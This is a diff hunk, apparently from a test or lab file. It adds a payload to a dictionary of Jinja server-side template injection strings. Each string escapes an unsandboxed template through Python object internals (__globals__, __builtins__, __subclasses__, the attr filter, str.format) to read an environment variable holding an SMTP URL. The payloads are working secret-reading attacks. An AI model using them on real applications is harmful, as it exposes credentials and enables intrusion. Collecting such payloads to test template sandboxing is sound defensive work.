@@ -59,6 +59,7 @@ ROUTES = {  # each prints the SMTP URL from an unsandboxed Jinja template
     "self's builtins": "{{ self.__init__.__globals__.__builtins__.__import__('os').environ.VAR }}",
     "attr filter": "{{ (cycler|attr('__init__')|attr('__globals__')).os.environ.VAR }}",
     "str.format": "{{ '{0.__init__.__globals__[os].environ[VAR]}'.format(cycler) }}",
+    "format through attr": "{{ ('{0.__init__.__globals__[os].environ[VAR]}'|attr('format'))(cycler) }}",
     "object's subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}"
                            "{{ c.__init__.__globals__.environ.VAR }}{% endif %}{% endfor %}",
 }
